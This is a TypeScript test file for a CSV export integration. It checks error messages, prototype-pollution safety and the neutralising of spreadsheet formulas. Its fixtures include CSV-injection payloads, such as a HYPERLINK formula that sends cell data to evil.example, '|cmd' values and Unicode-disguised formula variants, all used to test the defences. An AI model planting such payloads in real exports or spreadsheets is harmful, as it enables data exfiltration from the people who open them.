import { distributeProvider, EXPORT } from './distributeProvider';
import type { HostileServer } from './server';

const HEADER = 'orderNumber,status,customerName,phone\r\n';

describe('eSIM Distribute export: provider CSV is handled with care', () => {
	let server: HostileServer | undefined;
	afterEach(async () => await server?.close());

	it('a malformed Content-Disposition gives a clear error, not "URI malformed"', async () => {
		const provider = await distributeProvider(() => ({
			csv: `${HEADER}ED-1,pending,Jane,1\r\n`,
			disposition: "attachment; filename*=UTF-8''orders-%E0%A4%A.csv",
		}));
		server = provider;
		const { status, error } = await provider.run(EXPORT);
		process.stdout.write(
			`malformed Content-Disposition: ${JSON.stringify(error?.message ?? null)}\n`,
		);
		expect(status).toBe('error');
		expect(error?.message).toBe('eSIM Distribute sent the export with a malformed file name');
		expect(String(error?.description)).toMatch(/invalid percent-encoding/);
	});

	it('an unterminated quote gives a clear error instead of swallowing the rest of the file', async () => {
		const csv = `${HEADER}ED-1,pending,"Jane,1\r\nED-2,pending,Bob,2\r\nED-3,pending,Eve,3\r\n`;
		const provider = await distributeProvider(() => ({ csv }));
		server = provider;
		const { status, error, items } = await provider.run({
			...EXPORT,
			options: { includeRows: true },
		});
		process.stdout.write(
			`unterminated quote: status ${status}, ${items.length} rows, ${JSON.stringify(error?.message ?? null)}\n`,
		);
		expect(status).toBe('error');
		expect(error?.message).toBe(
			'eSIM Distribute sent an export that is not valid CSV: a quoted field that starts on line 2 is never closed, so the rest of the file cannot be read',
		);
	});

	it('rows as items have spreadsheet formulas neutralised by default, numbers and the file left alone', async () => {
		const cells = [
			'=HYPERLINK("http://evil.example/?x="&A1,"click")',
			'+1+2',
			'-2+3',
			'@SUM(A1:A9)',
			'\tTAB',
			'plain',
			'-5',
			'+44.5',
		];
		const csv = `${HEADER}${cells.map((cell, n) => `ED-${n},pending,"${cell.replace(/"/g, '""')}",${n}`).join('\r\n')}\r\n`;
		const provider = await distributeProvider(() => ({ csv }));
		server = provider;
		const { items } = await provider.run({ ...EXPORT, options: { includeRows: true } });
		const names = items.map((item) => item.json.customerName);
		process.stdout.write(`formulas: ${JSON.stringify(names)}\n`);
		expect(names).toEqual([
			`'${cells[0]}`,
			"'+1+2",
			"'-2+3",
			"'@SUM(A1:A9)",
			"'\tTAB",
			'plain',
			'-5',
			'+44.5',
		]);
		const file = Buffer.from(String(items[0].binary?.data.data), 'base64').toString('utf8');
		expect(file).toBe(csv);
		const off = await provider.run({
			...EXPORT,
			options: { includeRows: true, neutraliseFormulas: false },
		});
		expect(off.items.map((item) => item.json.customerName)).toEqual(cells);
	});
});

describe('eSIM Distribute export: every formula variant is neutralised, every column survives', () => {
	let server: HostileServer | undefined;
	afterEach(async () => await server?.close());

	const quoted = (cell: string) => `"${cell.replace(/"/g, '""')}"`;

	it('formulas after spaces, NBSP, BOM, line breaks, quotes, zero-width spaces, in full-width forms or after a pipe', async () => {
		const cells = [
			' =1+1',
			'\u00a0=1+1',
			'\ufeff=HYPERLINK("http://evil.example")',
			'\r\n=1+1',
			'\n+1+2',
			'"=1+1',
			"'@SUM(A1)",
			'\u200b=1',
			'\u3000-2+3',
			'\uff1dHYPERLINK("http://evil.example")',
			'\uff0b1',
			'\uff0d1',
			'\uff20SUM(A1)',
			'|cmd',
			'  |cmd',
			'\rx',
		];
		const safe = ['plain', '-5', '+44.5', 'a=b', "Jane O'Neil"];
		const rows = [...cells, ...safe].map((cell, n) => `ED-${n},pending,${quoted(cell)},${n}`);
		const provider = await distributeProvider(() => ({ csv: `${HEADER}${rows.join('\r\n')}\r\n` }));
		server = provider;
		const { items } = await provider.run({ ...EXPORT, options: { includeRows: true } });
		const names = items.map((item) => item.json.customerName);
		process.stdout.write(`formula variants: ${JSON.stringify(names)}\n`);
		expect(names).toEqual([...cells.map((cell) => `'${cell}`), ...safe]);
	});

	it('header names are neutralised too, in the items and in the column list', async () => {
		const csv = `orderNumber,"=HYPERLINK(""http://evil.example"")", \uff20cmd\r\nED-1,x,y\r\n`;
		const provider = await distributeProvider(() => ({ csv }));
		server = provider;
		const rows = await provider.run({ ...EXPORT, options: { includeRows: true } });
		const keys = Object.keys(rows.items[0].json);
		process.stdout.write(`header names: ${JSON.stringify(keys)}\n`);
		expect(keys).toEqual(['orderNumber', `'=HYPERLINK("http://evil.example")`, "'\uff20cmd"]);
		const file = await provider.run(EXPORT);
		expect(file.items[0].json.columns).toEqual(keys);
	});

	it('a column named __proto__ keeps its values, and duplicate column names both survive', async () => {
		const csv =
			'orderNumber,__proto__,constructor,email,email,email_2,\r\nED-1,p1,c1,a@example.com,b@example.com,c@example.com,last\r\n';
		const provider = await distributeProvider(() => ({ csv }));
		server = provider;
		const { status, items } = await provider.run({ ...EXPORT, options: { includeRows: true } });
		const json = items[0]?.json ?? {};
		process.stdout.write(
			`columns: ${JSON.stringify(Object.keys(json))} values ${JSON.stringify(Object.values(json))}\n`,
		);
		expect(status).toBe('success');
		expect(Object.keys(json)).toEqual([
			'orderNumber',
			'__proto__',
			'constructor',
			'email',
			'email_3',
			'email_2',
			'column7',
		]);
		expect(Object.values(json)).toEqual([
			'ED-1',
			'p1',
			'c1',
			'a@example.com',
			'b@example.com',
			'c@example.com',
			'last',
		]);
		expect(Object.getPrototypeOf(json)).not.toBe('p1');
	});
});
